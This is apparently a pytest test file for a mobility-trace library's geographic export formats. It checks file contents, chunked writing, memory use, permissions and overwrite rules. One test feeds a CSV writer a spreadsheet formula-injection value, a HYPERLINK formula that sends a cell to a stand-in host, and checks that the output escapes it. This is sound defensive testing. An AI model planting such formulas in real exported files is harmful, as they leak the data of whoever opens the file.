"""Files of each format, read by something else than what wrote them."""

from __future__ import annotations

import csv
import json
import re
import stat
import struct
import tracemalloc
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from pyarrow import parquet

from ppmtf_jax.data.stored_traces import StoredTraces, open_traces, save_in_parts
from ppmtf_jax.errors import InputError
from ppmtf_jax.exports import layers
from ppmtf_jax.exports.layers import Layer, population_layer, trace_layer
from ppmtf_jax.exports.registry import EXPORT_FORMATS, ExportFormat, write_layer
from tests.exports.examples import GRID, PLACES, ROWS, by_hand
from tests.support import places_in_line, random_traces

TIMES = [f"2024-01-0{1 + (22 + i) // 24}T{(22 + i) % 24:02d}:00:00+12:00" for _, _, i, _ in ROWS]


def layer_of(kind: str) -> Layer:
    return trace_layer(by_hand()) if kind == "traces" else population_layer({"synthetic": by_hand(), "real": by_hand()})


def written(folder: Path, name: str, layer: Layer | None = None, **how: bool) -> Path:
    path = folder / f"made{EXPORT_FORMATS[name].suffixes[0]}"
    write_layer(layer or trace_layer(by_hand()), path, name, **how)
    return path


def with_columns(layer: Layer, **columns: object) -> Layer:
    """A layer of one piece with other columns."""
    (piece,) = layer.pieces()
    return replace(layer, pieces=lambda: iter([piece._replace(rows=piece.rows.assign(**columns))]))


def as_json(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def test_geojson_of_traces(tmp_path):
    content = as_json(written(tmp_path, "geojson"))
    assert content["type"] == "FeatureCollection"
    assert content["about"]["time_zone"] == "Pacific/Fiji"
    expected = [
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [PLACES.longitude[place], PLACES.latitude[place]]},
            "properties": {
                "time": time,
                "user": user,
                "trace": trace,
                "place": str(PLACES.ids[place]),
                "category": PLACES.category[place],
            },
        }
        for (user, trace, _, place), time in zip(ROWS, TIMES, strict=True)
    ]
    assert content["features"] == expected
    layer = layer_of("population")
    features = as_json(written(tmp_path, "geojson", layer, overwrite=True))["features"]
    assert len(features) == len(layer.rows)
    assert (features[0]["properties"]["synthetic_share"], features[0]["properties"]["difference"]) == (0.5, 0)
    # Missing numbers are null.
    layer = with_columns(trace_layer(by_hand()), share=[np.nan, 1e-9, 0.1, 2, 3, 4, 1e22])
    features = as_json(written(tmp_path, "geojson", layer, overwrite=True))["features"]
    assert [each["properties"]["share"] for each in features] == [None, 1e-9, 0.1, 2, 3, 4, 1e22]


def test_csv(tmp_path):
    table = pd.read_csv(written(tmp_path, "csv"), keep_default_na=False)
    assert list(table) == ["time", "latitude", "longitude", "user", "trace", "place", "category"]
    assert table["time"].tolist() == TIMES
    assert table["category"].tolist() == [PLACES.category[place] or "" for *_, place in ROWS]
    assert table["longitude"].tolist() == [PLACES.longitude[place] for *_, place in ROWS]
    # Names of columns are not run by a spreadsheet, either.
    path = written(tmp_path, "csv", population_layer({"=1+1": by_hand()}), overwrite=True)
    assert path.read_text(encoding="utf-8").splitlines()[0].endswith("'=1+1_events,'=1+1_share")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_no_text_of_a_csv_is_run_by_a_spreadsheet(tmp_path, begin):
    """Ids and categories come from others: whoever opens the file would run what they wrote."""
    text = f'{begin}HYPERLINK("http://a.example/?"&A1,"x")'
    columns = {"user": text, "place": "a=1", "category": ["", None, text, "b", "c", "d", "e"]}
    layer = with_columns(trace_layer(by_hand()), **columns, kind=pd.Categorical([text] * len(ROWS)))
    with written(tmp_path, "csv", layer).open(newline="") as file:
        table = list(csv.DictReader(file))
    assert {row[name] for row in table for name in ("user", "kind")} == {f"'{text}"}
    assert {row["place"] for row in table} == {"a=1"}
    assert [row["category"] for row in table] == ["", "", f"'{text}", "b", "c", "d", "e"]
    # Numbers are no texts.
    assert [float(row["latitude"]) for row in table] == [PLACES.latitude[place] for *_, place in ROWS]
    assert min(float(row["latitude"]) for row in table) < 0


def test_geoparquet_is_what_its_specification_says(tmp_path):
    table = parquet.read_table(written(tmp_path, "geoparquet"))
    geo = json.loads(table.schema.metadata[b"geo"])
    assert geo["columns"][geo["primary_column"]]["encoding"] == "WKB"
    points = [struct.unpack("<BIdd", each) for each in table["geometry"].to_pylist()]
    assert points == [(1, 1, PLACES.longitude[place], PLACES.latitude[place]) for *_, place in ROWS]
    assert str(table.schema.field("time").type) == "timestamp[ms, tz=Pacific/Fiji]"
    assert json.loads(table.schema.metadata[b"about"])["content"] == "traces"


def test_geopandas_reads_what_is_written(tmp_path):
    geopandas = pytest.importorskip("geopandas", reason="needs GeoPandas (extra interop)")
    table = geopandas.read_parquet(written(tmp_path, "geoparquet"))
    assert (table.crs.to_string(), table.geometry.x.tolist()) == ("OGC:CRS84", table["longitude"].tolist())
    # Of GeoJSON the reader takes the offsets into account.
    points = geopandas.read_file(written(tmp_path, "geojson"))
    assert points["time"].tolist() == trace_layer(by_hand()).rows["time"].tolist()
    assert points.geometry.y.tolist() == [PLACES.latitude[place] for *_, place in ROWS]


def test_mf_json_of_traces(tmp_path):
    features = as_json(written(tmp_path, "mf-json"))["features"]
    assert [each["properties"] for each in features] == [
        {"trajectory": 0, "user": 1, "trace": 0},
        {"trajectory": 1, "user": 1, "trace": 2},
        {"trajectory": 2, "user": 7, "trace": 0},
    ]
    moving = features[0]["temporalGeometry"]
    assert moving["coordinates"] == [[179, -17.5], [179, -17.5], [179.5, -17]]
    # In UTC, twelve hours before Fiji.
    assert moving["datetimes"] == [f"2024-01-01T{hour}:00:00+00:00" for hour in (10, 11, 13)]
    assert (moving["type"], moving["interpolation"]) == ("MovingPoint", "Discrete")
    (group,) = features[2]["temporalProperties"]
    assert group["place"]["values"] == ["c", "d", "c"]
    assert group["datetimes"] == features[2]["temporalGeometry"]["datetimes"]


@pytest.mark.filterwarnings("ignore:The inplace keyword", "ignore:Time zone information dropped")
def test_movingpandas_reads_mf_json(tmp_path):
    pytest.importorskip("geopandas", reason="needs GeoPandas (extra interop)")
    io = pytest.importorskip("movingpandas.io", reason="needs MovingPandas (extra interop)")
    # It takes no trajectory of one point.
    traces = by_hand().select_traces(np.array([True, False, True]))
    read = io.read_mf_json(written(tmp_path, "mf-json", trace_layer(traces)), "trajectory")
    assert [(each.id, each.size()) for each in read.trajectories] == [(0, 3), (1, 3)]
    assert read.trajectories[1].df["place"].tolist() == ["c", "d", "c"]


def test_kepler_trips(tmp_path):
    features = as_json(written(tmp_path, "kepler-trips"))["features"]
    start = int(pd.Timestamp("2024-01-01T22:00+12:00").timestamp())
    lines = [each["geometry"]["coordinates"] for each in features]
    hours = [[(point[3] - start) / 3600 for point in line] for line in lines]
    # Each ends a step after its last event begins; one event is a line, too.
    assert hours == [[0, 1, 3, 4], [1, 2], [0, 1, 2, 3]]
    # Over the 180th meridian and back, the short way.
    assert [point[:3] for point in lines[2]] == [[179.5, -17, 0], [180.5, -17, 0], [179.5, -17, 0], [179.5, -17, 0]]
    assert lines[1][0][0] == -179.5


def content(path: Path) -> object:
    """What is in a file. The row groups of a Parquet file depend on the pieces; its table does not."""
    return parquet.read_table(path) if path.suffix == ".parquet" else path.read_bytes()


@pytest.mark.parametrize("name", list(EXPORT_FORMATS))
def test_pieces_make_the_same_file(tmp_path, monkeypatch, name):
    """The first piece of GeoParquet has no category, so that the type of this column is not known from it."""
    category = np.array([None, 'the "old" café', None, "home"], object)
    traces = replace(by_hand(), places=replace(PLACES, category=category))
    whole = content(written(tmp_path, name, trace_layer(traces)))
    monkeypatch.setattr(layers, "ROWS_AT_A_TIME", 2)
    assert content(written(tmp_path, name, trace_layer(traces), overwrite=True)) == whole


@pytest.fixture
def small_blocks(monkeypatch):
    """Blocks of four users, row groups of 30 events, and pieces of 20 rows."""
    for module in ("traces", "stored_traces"):
        monkeypatch.setattr(f"ppmtf_jax.data.{module}.BLOCK_USERS", 4)
    monkeypatch.setattr("ppmtf_jax.data.events.PIECE_EVENTS", 30)
    monkeypatch.setattr(layers, "ROWS_AT_A_TIME", 20)


@pytest.mark.parametrize("name", list(EXPORT_FORMATS))
@pytest.mark.usefixtures("small_blocks")
def test_parts_of_the_traces_make_the_same_file(tmp_path, name):
    traces = random_traces(0, range(23), places_in_line(6), GRID, n_traces=2, keep=0.7)
    files = [written(tmp_path, name, trace_layer(traces))]
    for n_parts in (1, 3, 7):
        folder = tmp_path / f"{n_parts}"
        save_in_parts(map(traces.select_users, np.array_split(np.arange(23), n_parts)), folder / "set")
        stored = open_traces(folder / "set")
        assert isinstance(stored, StoredTraces)
        files += [written(folder, name, trace_layer(stored))]
    assert len({file.read_bytes() for file in files}) == 1


@pytest.mark.parametrize("bug", [False, True], ids=["", "planted bug"])
def test_memory_does_not_grow_with_users(tmp_path, monkeypatch, bug):
    """1,600 users in place of 100 have 7,500 more rows, of 7 columns of 8 bytes. The bug keeps all pieces."""
    for module in ("traces", "stored_traces"):
        monkeypatch.setattr(f"ppmtf_jax.data.{module}.BLOCK_USERS", 50)
    monkeypatch.setattr("ppmtf_jax.data.events.PIECE_EVENTS", 300)
    monkeypatch.setattr(layers, "ROWS_AT_A_TIME", 200)
    peaks = []
    for n_users in (100, 1600):
        random_traces(0, range(n_users), places_in_line(6), GRID).save(tmp_path / str(n_users))
        tracemalloc.start()
        layer = trace_layer(open_traces(tmp_path / str(n_users)))
        if bug:
            kept = list(layer.pieces())
            layer = replace(layer, pieces=kept.__iter__)
        written(tmp_path, "csv", layer, overwrite=True)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert (peaks[1] - peaks[0] > 7500 * 7 * 8 / 2) == bug


@pytest.mark.parametrize("name", list(EXPORT_FORMATS))
def test_a_file_is_secret_unless_public_and_only_our_own_is_replaced(tmp_path, name):
    path = tmp_path / f"made{EXPORT_FORMATS[name].suffixes[0]}"
    for content in ("", "mine", "time,latitude,longitude,altitude\n1,2,3,4\n"):
        path.write_text(content)
        with pytest.raises(InputError, match="a file that this program did not write"):
            written(tmp_path, name, overwrite=True)
        assert path.read_text() == content
    path.unlink()
    for kind in ("traces", "population")[: 2 - EXPORT_FORMATS[name].of_traces_alone]:
        path.unlink(missing_ok=True)
        written(tmp_path, name, layer_of(kind))
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        with pytest.raises(InputError, match="a name that is free"):
            written(tmp_path, name, layer_of(kind))
        before = path.read_bytes()
        written(tmp_path, name, layer_of(kind), overwrite=True, public=True)
        assert path.read_bytes() == before
        assert stat.S_IMODE(path.stat().st_mode) != 0o600
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


def test_a_format_is_added_by_registering_it_and_leaves_nothing_when_it_fails(tmp_path):
    def write(layer: Layer, path: Path) -> None:
        path.write_text(f"{layer.n_rows} rows")
        if layer.n_rows < 7:
            raise OSError(28, "No space left on device")

    EXPORT_FORMATS.register(ExportFormat("count", "How many.", (".count",), write, mark=b" rows"))
    try:
        for _ in range(2):
            assert written(tmp_path, "count", overwrite=True).read_text() == "7 rows"
        (tmp_path / "made.count").unlink()
        with pytest.raises(InputError, match="No space left"):
            written(tmp_path, "count", trace_layer(by_hand(), 1))
        assert list(tmp_path.iterdir()) == []
    finally:
        EXPORT_FORMATS.remove("count")


def test_names_tell_the_format(tmp_path):
    for name, ending in (("geojson", ".GeoJSON"), ("mf-json", ".json"), ("geoparquet", ".geoparquet")):
        write_layer(trace_layer(by_hand()), tmp_path / f"x{ending}")
        assert re.search(EXPORT_FORMATS[name].mark, (tmp_path / f"x{ending}").read_bytes())
    for path, how, message in (
        ("x", None, r"ends in \.geojson, .*\.csv, .*; found none of them"),
        ("x.txt", None, r"found \.txt"),
        ("x.csv", "geojson", r"ends in \.geojson for geojson; found \.csv"),
        ("x.csv", "cvs", "found 'cvs'. Did you mean csv"),
    ):
        with pytest.raises(InputError, match=message):
            write_layer(trace_layer(by_hand()), tmp_path / path, how)


def test_a_population_does_not_move(tmp_path):
    for name in ("mf-json", "kepler-trips"):
        with pytest.raises(InputError, match=r"expected traces; found a population\. Choose one of geojson, geop"):
            written(tmp_path, name, layer_of("population"))


@pytest.mark.parametrize("ids", [np.array([2**64 - 1], np.uint64), ["日本"], ['"a"\\'], [True], [-7]], ids=str)
def test_ids_of_any_type_are_written(tmp_path, ids):
    layer = trace_layer(by_hand().select_traces(np.array([False, True, False])))
    (feature,) = as_json(written(tmp_path, "kepler-trips", with_columns(layer, user=ids)))["features"]
    assert feature["properties"]["user"] == ids[0]
